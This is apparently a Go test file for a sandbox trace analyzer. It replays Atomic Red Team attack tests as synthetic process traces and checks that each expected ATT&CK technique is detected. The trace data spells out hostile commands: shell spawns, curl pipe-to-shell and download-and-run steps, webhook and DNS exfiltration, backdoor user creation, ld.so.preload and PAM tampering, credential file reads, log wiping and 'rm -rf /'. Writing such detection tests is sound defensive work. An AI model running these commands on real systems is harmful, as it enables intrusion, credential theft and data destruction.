package analyzer

import (
	"encoding/json"
	"os"
	"testing"

	"github.com/sandscan/sandscan/trace"
)

// TestAtomicsCorpus replays, as traces, what shared/eval/atomics.json says
// each Atomic Red Team test does under gVisor (its expected_observables),
// with PID 1 running the atomic's real command text, and wants the
// atomic's technique (v19 id or its v18 legacy id) in the report.
func TestAtomicsCorpus(t *testing.T) {
	b, err := os.ReadFile("../../shared/eval/atomics.json")
	if err != nil {
		t.Fatal(err)
	}
	var atomics []struct {
		Technique string `json:"technique"`
		Legacy    string `json:"legacy_technique"`
		Name      string `json:"name"`
		Shell     string `json:"shell"`
		Command   string `json:"command"`
	}
	if err := json.Unmarshal(b, &atomics); err != nil {
		t.Fatal(err)
	}
	// Builders by the atomic's 1-based index in the file; each adds the
	// children the command makes to a run whose PID 1 is the shell.
	builders := map[int]func(b *rb) *rb{
		1: func(b *rb) *rb {
			return b.spawn(1, 10, "/usr/bin/mawk", "awk", `BEGIN {system("/bin/sh &")}`).spawn(10, 11, "/bin/sh", "sh", "-c", "/bin/sh &").spawn(11, 12, "/bin/sh", "/bin/sh")
		},
		3: func(b *rb) *rb {
			return b.spawn(1, 10, "/usr/bin/curl", "curl", "-s", "https://raw.githubusercontent.com/x/pipe-to-shell.sh").spawn(1, 11, "/usr/bin/bash", "bash").connect(10, "10.99.0.1", 53, 0)
		},
		4: func(b *rb) *rb {
			return b.spawn(1, 10, "/usr/bin/which", "which", "python3").spawn(1, 11, "/usr/bin/python3.11", "python3", "-c", "import pty;pty.spawn('/bin/sh')").open(11, "/dev/ptmx", oRdwr).spawn(11, 12, "/bin/sh", "/bin/sh")
		},
		5: func(b *rb) *rb {
			return b.spawn(1, 10, "/usr/bin/at", "at", "now", "+", "1", "minute").open(10, "/var/spool/cron/atjobs/.SEQ", oRdwr).open(10, "/var/spool/cron/atjobs/a0000101", wr)
		},
		6: func(b *rb) *rb {
			return b.open(1, "/tmp/atomic_tmp.service", wr).open(1, "/tmp/atomic_tmp.service", appendF).spawn(1, 10, "/usr/bin/systemctl", "systemctl", "link", "/tmp/atomic_tmp.service").
				spawn(1, 11, "/usr/bin/systemctl", "systemctl", "start", "atomic_tmp.service")
		},
		7: func(b *rb) *rb {
			return b.spawn(1, 10, "/usr/bin/crontab", "crontab", "-l").open(1, "/tmp/persistevil", wr).spawn(1, 11, "/usr/bin/crontab", "crontab", "/tmp/persistevil").open(11, "/var/spool/cron/crontabs/tmp.aB3", wr)
		},
		8: func(b *rb) *rb { return b.open(1, "/etc/cron.d/persistevil", wr) },
		9: func(b *rb) *rb { return b.open(1, "/root/.bashrc", appendF) },
		10: func(b *rb) *rb {
			return b.spawn(1, 10, "/usr/bin/cat", "cat", "/root/.ssh/authorized_keys").open(1, "/root/.ssh/authorized_keys", wr)
		},
		11: func(b *rb) *rb {
			return b.spawn(1, 10, "/usr/sbin/useradd", "useradd", "-M", "-N", "-r", "-s", "/bin/bash", "-c", "evil_account", "evil_user").open(10, "/etc/passwd", oRdwr).open(10, "/etc/shadow", oRdwr)
		},
		12: func(b *rb) *rb {
			return b.spawn(1, 10, "/usr/bin/openssl", "openssl", "passwd", "-1", "art").spawn(1, 11, "/usr/bin/uname", "uname").
				spawn(1, 12, "/usr/sbin/useradd", "useradd", "--shell", "/bin/bash", "--create-home", "--password", "$1$abc", "art").open(12, "/home/art/.bashrc", wr).
				spawn(1, 13, "/usr/bin/su", "su", "art", "-c", "whoami; exit").open(13, "/etc/shadow", rdonly).spawn(13, 14, "/bin/bash", "bash", "-c", "whoami; exit")
		},
		13: func(b *rb) *rb {
			return b.spawn(1, 10, "/usr/bin/sudo", "sudo", "touch", "/etc/rc.local").open(10, "/etc/shadow", rdonly).spawn(10, 11, "/usr/bin/touch", "touch", "/etc/rc.local").open(11, "/etc/rc.local", oWronly|oCreat).
				spawn(1, 12, "/usr/bin/sudo", "sudo", "tee", "-a", "/etc/rc.local").spawn(12, 13, "/usr/bin/tee", "tee", "-a", "/etc/rc.local").open(13, "/etc/rc.local", appendF)
		},
		14: func(b *rb) *rb {
			return b.open(1, "/etc/systemd/system/art-systemd-service.service", wr).spawn(1, 10, "/usr/bin/systemctl", "systemctl", "enable", "art-systemd-service.service").
				symlink("/etc/systemd/system/default.target.wants/art-systemd-service.service", "/etc/systemd/system/art-systemd-service.service")
		},
		15: func(b *rb) *rb {
			return b.open(1, "/etc/systemd/system/art-timer.service", wr).open(1, "/etc/systemd/system/art-timer.timer", wr).spawn(1, 10, "/usr/bin/systemctl", "systemctl", "enable", "art-timer.timer")
		},
		16: func(b *rb) *rb {
			return b.spawn(1, 10, "/usr/bin/python3.11", "python3", "-m", "venv", "/tmp/atomic_sitecust_posix/env").
				open(1, "/tmp/atomic_sitecust_posix/env/lib/python3.11/site-packages/atomic_hook.pth", wr).
				spawn(1, 11, "/tmp/atomic_sitecust_posix/env/bin/python", "/tmp/atomic_sitecust_posix/env/bin/python", "-c", "print('x')").
				spawn(11, 12, "/bin/sh", "sh", "-c", "cat /etc/passwd 1> /tmp/atomic_hook_poc.txt")
		},
		17: func(b *rb) *rb {
			return b.spawn(1, 10, "/usr/bin/sudo", "sudo", "chmod", "u+xs", "/tmp/evilBinary").spawn(10, 11, "/usr/bin/chmod", "chmod", "u+xs", "/tmp/evilBinary").syscall(11, "fchmodat", 0, 0xffffff9c, 0, 04744)
		},
		18: func(b *rb) *rb {
			return b.spawn(1, 10, "/usr/bin/sudo", "sudo", "setcap", "cap_setuid=ep", "/tmp/evilBinary").spawn(10, 11, "/usr/sbin/setcap", "setcap", "cap_setuid=ep", "/tmp/evilBinary")
		},
		19: func(b *rb) *rb {
			return b.spawn(1, 10, "/usr/bin/sudo", "sudo", "sed", "-i", "s/env_reset.*$/env_reset,timestamp_timeout=-1/", "/etc/sudoers").
				spawn(10, 11, "/usr/bin/sed", "sed", "-i", "s/env_reset.*$/env_reset,timestamp_timeout=-1/", "/etc/sudoers").open(11, "/etc/sedKx1", wr)
		},
		20: func(b *rb) *rb {
			return b.spawn(1, 10, "/usr/bin/sudo", "sudo", "sh", "-c", "echo /tmp/T1574006.so > /etc/ld.so.preload").spawn(10, 11, "/bin/sh", "sh", "-c", "echo /tmp/T1574006.so > /etc/ld.so.preload").open(11, "/etc/ld.so.preload", wr)
		},
		21: func(b *rb) *rb { return b.withEnv("LD_PRELOAD=/tmp/T1574006.so").spawn(1, 10, "/usr/bin/ls", "ls") },
		22: func(b *rb) *rb {
			return b.spawn(1, 10, "/usr/bin/mkdir", "mkdir", "/mnt/T1611.002").spawn(1, 11, "/usr/bin/mount", "mount", "/dev/dm-0", "/mnt/T1611.002").
				spawn(1, 12, "/usr/bin/netcat", "netcat", "-l", "-p", "4444").bind(12, "0.0.0.0", 4444)
		},
		23: func(b *rb) *rb {
			b.spawn(1, 10, "/usr/bin/cat", "cat", "/tmp/encoded.dat")
			b.add(trace.Event{Kind: trace.KindClone, PID: 1, Child: 11})
			return b.open(11, "/tmp/art.sh", wr).execIn(11, 1, "/usr/bin/base64", "base64", "-d").spawn(1, 12, "/usr/bin/chmod", "chmod", "+x", "/tmp/art.sh").spawn(1, 13, "/tmp/art.sh", "/tmp/art.sh")
		},
		24: func(b *rb) *rb {
			return b.open(1, "/tmp/art_payload.sh", wr).spawn(1, 10, "/usr/bin/zip", "zip", "-P", "infected", "art_encrypted.zip", "art_payload.sh").spawn(1, 11, "/usr/bin/rm", "rm", "/tmp/art_payload.sh").
				spawn(1, 12, "/usr/bin/unzip", "unzip", "-P", "infected", "-o", "/tmp/art_encrypted.zip", "-d", "/tmp/").open(12, "/tmp/art_payload.sh", wr).spawn(1, 13, "/usr/bin/bash", "bash", "/tmp/art_payload.sh")
		},
		25: func(b *rb) *rb {
			return b.spawn(1, 10, "/usr/bin/python3.11", "python3", "-c", `import base64; import subprocess; xor_decrypt = lambda text, key: "".join([chr(c ^ ord(k)) for c, k in zip(base64.b64decode(text.encode()), key)]); subprocess.call(exec, shell=True)`).
				spawn(10, 11, "/bin/sh", "/bin/sh", "-c", "whoami")
		},
		26: func(b *rb) *rb {
			b.spawn(1, 10, "/usr/bin/cp", "cp", "/bin/sh", "/tmp/crond")
			b.add(trace.Event{Kind: trace.KindClone, PID: 1, Child: 11})
			b.add(trace.Event{Kind: trace.KindExec, PID: 11, Path: "/tmp/crond", Argv: []string{"/tmp/crond"}, SHA256: "sha-sh"})
			return b
		},
		27: func(b *rb) *rb {
			return b.spawn(1, 10, "/usr/bin/cp", "cp", "/usr/bin/sh", "/root/...").spawn(1, 11, "/root/.../sh", "/root/.../sh", "-c", "echo hi")
		},
		28: func(b *rb) *rb {
			return b.open(1, "/tmp/report.pdf.sh", wr).spawn(1, 10, "/tmp/report.pdf.sh", "/tmp/report.pdf.sh")
		},
		29: func(b *rb) *rb {
			return b.open(1, "/tmp/image.png", wr).spawn(1, 10, "/bin/sh", "sh", "/tmp/image.png")
		},
		30: func(b *rb) *rb {
			return b.spawn(1, 10, "/usr/bin/sudo", "sudo", "mount", "-B", "/proc/7", "/proc/12").spawn(10, 11, "/usr/bin/mount", "mount", "-B", "/proc/7", "/proc/12").syscall(11, "mount", 0, 0, 0, 0, 4096, 0)
		},
		31: func(b *rb) *rb {
			return b.spawn(1, 10, "/usr/bin/ln", "ln", "-sf", "/dev/null", "/root/.bash_history").symlink("/root/.bash_history", "/dev/null")
		},
		32: func(b *rb) *rb {
			return b.spawn(1, 10, "/usr/bin/touch", "touch", "-a", "-t", "197001010000.00", "/tmp/T1070.006-access.txt")
		},
		33: func(b *rb) *rb {
			return b.spawn(1, 10, "/usr/bin/mkdir", "mkdir", "/var/tmp/.hidden-directory").open(1, "/var/tmp/.hidden-directory/.hidden-file", wr)
		},
		34: func(b *rb) *rb {
			return b.spawn(1, 10, "/usr/bin/ping", "ping", "-c", "250", "8.8.8.8").socket(10, 2, sockDgram, ipprotoICMP, 1).spawn(1, 11, "/usr/bin/whoami", "whoami")
		},
		35: func(b *rb) *rb {
			return b.spawn(1, 10, "/usr/bin/systemd-detect-virt", "systemd-detect-virt").open(10, "/sys/class/dmi/id/product_name", rdonly).
				spawn(1, 11, "/usr/bin/sudo", "sudo", "dmidecode").spawn(11, 12, "/usr/sbin/dmidecode", "dmidecode")
		},
		36: func(b *rb) *rb {
			return b.spawn(1, 10, "/usr/bin/uname", "uname").spawn(1, 11, "/usr/bin/rm", "rm", "-rf", "/", "--no-preserve-root")
		},
		37: func(b *rb) *rb {
			return b.spawn(1, 10, "/usr/sbin/sysctl", "sysctl", "-w", "kernel.randomize_va_space=0").open(10, "/proc/sys/kernel/randomize_va_space", oWronly|oTrunc)
		},
		38: func(b *rb) *rb {
			return b.spawn(1, 10, "/usr/bin/rm", "rm", "-rf", "/var/log/messages").spawn(1, 11, "/usr/bin/rm", "rm", "-rf", "/var/log/security").
				file("/var/log/messages", trace.FileDeleted, 0640)
		},
		39: func(b *rb) *rb {
			return b.withEnv("HISTFILE=/dev/null").spawn(1, 10, "/usr/bin/whoami", "whoami").spawn(1, 11, "/usr/bin/groups", "groups")
		},
		40: func(b *rb) *rb {
			return b.spawn(1, 10, "/usr/sbin/iptables-save", "iptables-save").spawn(1, 11, "/usr/sbin/iptables", "iptables", "-F").socket(11, 16, 3, 12, 93)
		},
		41: func(b *rb) *rb {
			return b.open(1, "/etc/ufw/user.rules", appendF).spawn(1, 10, "/usr/bin/grep", "grep", "# THIS IS A COMMENT", "/etc/ufw/user.rules")
		},
		42: func(b *rb) *rb {
			return b.spawn(1, 10, "/usr/bin/mv", "mv", "rootCA.crt", "/usr/local/share/ca-certificates").
				spawn(1, 11, "/usr/bin/sudo", "sudo", "update-ca-certificates").spawn(11, 12, "/usr/sbin/update-ca-certificates", "update-ca-certificates")
		},
		43: func(b *rb) *rb { return b.spawn(1, 10, "/usr/bin/chattr", "chattr", "-i", "/var/spool/cron/root") },
		44: func(b *rb) *rb {
			return b.spawn(1, 10, "/usr/bin/sudo", "sudo", "sed", "-i", "1s,^,auth sufficient pam_succeed_if.so uid >= 0\n,g", "/etc/pam.d/su-l").
				spawn(10, 11, "/usr/bin/sed", "sed", "-i", "1s,^,auth sufficient pam_succeed_if.so uid >= 0\n,g", "/etc/pam.d/su-l").open(11, "/etc/pam.d/sedAx9", wr)
		},
		45: func(b *rb) *rb {
			return b.spawn(1, 10, "/usr/bin/sudo", "sudo", "cat", "/etc/shadow").open(10, "/etc/shadow", rdonly).spawn(10, 11, "/usr/bin/cat", "cat", "/etc/shadow").open(11, "/etc/shadow", rdonly)
		},
		46: func(b *rb) *rb {
			return b.spawn(1, 10, "/usr/bin/uname", "uname").spawn(1, 11, "/bin/sh", "sh").open(11, "/etc/passwd", rdonly).open(11, "/etc/shadow", rdonly)
		},
		47: func(b *rb) *rb {
			return b.spawn(1, 10, "/bin/sh", "sh", "/tmp/T1003.007.sh").spawn(1, 11, "/usr/bin/pgrep", "pgrep", "-n", "-f", "T1003.007").
				spawn(1, 12, "/usr/bin/dd", "dd", "if=/proc/20/mem", "of=/tmp/T1003.007.bin", "ibs=1").open(12, "/proc/20/mem", rdonly)
		},
		48: func(b *rb) *rb {
			return b.spawn(1, 10, "/usr/bin/grep", "grep", "-ri", "password", "/").open(10, "/etc/shadow", rdonly)
		},
		49: func(b *rb) *rb {
			return b.spawn(1, 10, "/usr/bin/find", "find", "/", "-name", "id_rsa", "-exec", "cp", "--parents", "{}", "/tmp/art-staging", ";").
				spawn(10, 11, "/usr/bin/cp", "cp", "--parents", "/root/.ssh/id_rsa", "/tmp/art-staging").open(11, "/root/.ssh/id_rsa", rdonly)
		},
		50: func(b *rb) *rb {
			return b.spawn(1, 10, "/usr/bin/cat", "cat", "/root/.bash_history").open(10, "/root/.bash_history", rdonly).spawn(1, 11, "/usr/bin/grep", "grep", "-e", "-p ", "-e", "pass", "-e", "ssh")
		},
		51: func(b *rb) *rb {
			return b.spawn(1, 10, "/usr/bin/curl", "curl", "-s", "-X", "PUT", "http://169.254.169.254/latest/api/token").connect(10, "169.254.169.254", 80, errENETUNREACH)
		},
		52: func(b *rb) *rb {
			return b.spawn(1, 10, "/usr/bin/tcpdump", "tcpdump", "-c", "5", "-nnni", "ens33").socket(10, afPacket, sockRaw, 0, 1)
		},
		53: func(b *rb) *rb {
			return b.spawn(1, 10, "/usr/bin/date", "date", "+%d/%m/%y").open(1, "/tmp/.keyboard.log", appendF)
		},
		54: func(b *rb) *rb {
			return b.spawn(1, 10, "/usr/bin/zip", "zip", "/root/data.zip", "/var/log/wtmp", "/var/log/btmp")
		},
		55: func(b *rb) *rb {
			return b.spawn(1, 10, "/usr/bin/zip", "zip", "--password", "InsertPasswordHere", "/tmp/T1560/T1560", "./a").
				spawn(1, 11, "/usr/bin/gpg", "gpg", "--batch", "--yes", "--passphrase-fd", "0", "--output", "/tmp/T1560/T1560.zip.gpg", "-c", "/tmp/T1560/T1560.zip")
		},
		56: func(b *rb) *rb {
			return b.spawn(1, 10, "/usr/bin/python3.11", "python3", "-c", "import gzip;...").open(10, "/etc/passwd", rdonly).open(10, "/tmp/passwd.gz", wr)
		},
		57: func(b *rb) *rb {
			return b.spawn(1, 10, "/usr/bin/uname", "uname", "-a").spawn(1, 11, "/usr/bin/cat", "cat", "/etc/os-release").open(11, "/etc/os-release", rdonly).spawn(1, 12, "/usr/bin/uptime", "uptime")
		},
		58: func(b *rb) *rb {
			return b.spawn(1, 10, "/usr/bin/sudo", "sudo", "cat", "/etc/sudoers").open(10, "/etc/sudoers", rdonly).spawn(10, 11, "/usr/bin/cat", "cat", "/etc/sudoers").open(11, "/etc/sudoers", rdonly)
		},
		59: func(b *rb) *rb { return b.spawn(1, 10, "/usr/bin/ps", "ps").spawn(1, 11, "/usr/bin/ps", "ps", "aux") },
		60: func(b *rb) *rb {
			return b.spawn(1, 10, "/usr/bin/ss", "ss", "-antp").spawn(1, 11, "/usr/bin/ss", "ss", "-aunp")
		},
		61: func(b *rb) *rb {
			return b.spawn(1, 10, "/usr/sbin/arp", "arp", "-a").spawn(1, 11, "/usr/sbin/ifconfig", "ifconfig").spawn(1, 12, "/usr/sbin/ip", "ip", "addr").spawn(1, 13, "/usr/bin/netstat", "netstat", "-ant")
		},
		62: func(b *rb) *rb {
			return b.spawn(1, 10, "/usr/bin/nmap", "nmap", "-Pn", "-sV", "-p", "0-65535", "127.0.0.1")
		},
		63: func(b *rb) *rb {
			return b.spawn(1, 10, "/usr/bin/ps", "ps", "aux").spawn(1, 11, "/usr/bin/egrep", "egrep", "falcond|nessusd|cbagentd|td-agent|packetbeat|filebeat|auditbeat|osqueryd")
		},
		64: func(b *rb) *rb {
			return b.spawn(1, 10, "/usr/bin/find", "find", "/", "-path", "*.mozilla/firefox/*/places.sqlite", "-exec", "echo", "{}", ";")
		},
		65: func(b *rb) *rb {
			return b.spawn(1, 10, "/usr/bin/curl", "curl", "-s", "-A", "HttpBrowser/1.0", "-m3", "www.google.com")
		},
		66: func(b *rb) *rb {
			return b.spawn(1, 10, "/usr/bin/timeout", "timeout", "--preserve-status", "1", "whois", "-h", "localhost", "-p", "8443", "Hello").
				spawn(10, 11, "/usr/bin/whois", "whois", "-h", "localhost", "-p", "8443", "Hello").connect(11, "::1", 8443, errECONNREFUSED)
		},
		67: func(b *rb) *rb {
			return b.spawn(1, 10, "/usr/bin/curl", "curl", "-sO", "https://raw.githubusercontent.com/redcanaryco/atomic-red-team/master/atomics/T1105/src/atomic.sh").
				spawn(1, 11, "/usr/bin/chmod", "chmod", "+x", "atomic.sh").spawn(1, 12, "/usr/bin/bash", "bash", "atomic.sh")
		},
		68: func(b *rb) *rb {
			return b.withEnv("http_proxy=127.0.0.1:3128").spawn(1, 10, "/usr/bin/curl", "curl", "http://google.com").connect(10, "127.0.0.1", 3128, errECONNREFUSED)
		},
		69: func(b *rb) *rb { return b.spawn(1, 10, "/usr/bin/telnet", "telnet", "google.com", "8081") },
		70: func(b *rb) *rb {
			return b.spawn(1, 10, "/usr/bin/base64", "base64").spawn(1, 11, "/usr/bin/dig", "dig", "@8.8.8.8", "-p", "53", "dGhpcyBpcyBhIHNlY3JldCBpbmZvCg==.google.com").connect(11, "8.8.8.8", 53, errENETUNREACH)
		},
		71: func(b *rb) *rb {
			return b.spawn(1, 10, "/usr/bin/wget", "wget", "--post-data=msg=AtomicTestT1048.002", "--timeout=5", "--no-check-certificate", "https://example.com/", "--delete-after")
		},
		72: func(b *rb) *rb {
			return b.open(1, "/tmp/T1567.004_loot.txt", wr).spawn(1, 10, "/usr/bin/curl", "curl", "-s", "-F", "file=@/tmp/T1567.004_loot.txt", "https://discord.com/api/webhooks/000000000000000000/ReplaceWithYourWebhookToken")
		},
		73: func(b *rb) *rb {
			return b.spawn(1, 10, "/usr/bin/dd", "dd", "if=/dev/urandom", "of=/tmp/T1030/T1030_urandom", "bs=25000000", "count=1").spawn(1, 11, "/usr/bin/split", "split", "-b", "5000000", "T1030_urandom")
		},
		74: func(b *rb) *rb { return b.spawn(1, 10, "/usr/bin/yes", "yes").resources(6, 5.9, true) },
		75: func(b *rb) *rb {
			return b.spawn(1, 10, "/usr/bin/dd", "dd", "of=/var/log/syslog", "if=/dev/zero", "count=54", "iflag=count_bytes").open(10, "/var/log/syslog", wr).file("/var/log/syslog", trace.FileModified, 0640)
		},
		76: func(b *rb) *rb {
			return b.spawn(1, 10, "/usr/bin/cp", "cp", "/etc/passwd", "/tmp/passwd").spawn(1, 11, "/usr/bin/ccencrypt", "ccencrypt", "-T", "-K", "passwd", "/tmp/passwd")
		},
		77: func(b *rb) *rb {
			return b.spawn(1, 10, "/usr/bin/sudo", "sudo", "killall", "-SIGTERM", "cron").spawn(10, 11, "/usr/bin/killall", "killall", "-SIGTERM", "cron").syscall(11, "pidfd_send_signal", 0, 3, 15)
		},
		78: func(b *rb) *rb {
			return b.spawn(1, 10, "/usr/bin/sudo", "sudo", "pkill", "-SIGTERM", "^cron$").spawn(10, 11, "/usr/bin/pkill", "pkill", "-SIGTERM", "^cron$").syscall(11, "kill", 0, 5, 15)
		},
		79: func(b *rb) *rb { return b.spawn(1, 10, "/usr/sbin/reboot", "reboot") },
		80: func(b *rb) *rb { return b.open(1, "/proc/sysrq-trigger", wr) },
	}
	a := New()
	detected, total := 0, 0
	for i, at := range atomics {
		build := builders[i+1]
		if build == nil {
			continue
		}
		total++
		shell := "/bin/sh"
		if at.Shell == "bash" {
			shell = "/bin/bash"
		}
		run := build(newRun(shell, "-c", at.Command)).done()
		rep, err := a.Analyze(run)
		if err != nil {
			t.Fatal(err)
		}
		found := false
		for _, tech := range rep.Techniques {
			if tech.ID == at.Technique || tech.ID == at.Legacy || tech.IDV19 == at.Technique {
				found = true
			}
		}
		if found {
			detected++
		} else {
			t.Errorf("atomic %d %s (%s): not detected; verdict %s; %v", i+1, at.Technique, at.Name, rep.Verdict, summaries(rep.Findings))
		}
	}
	t.Logf("detected %d of %d replayed atomics", detected, total)
}
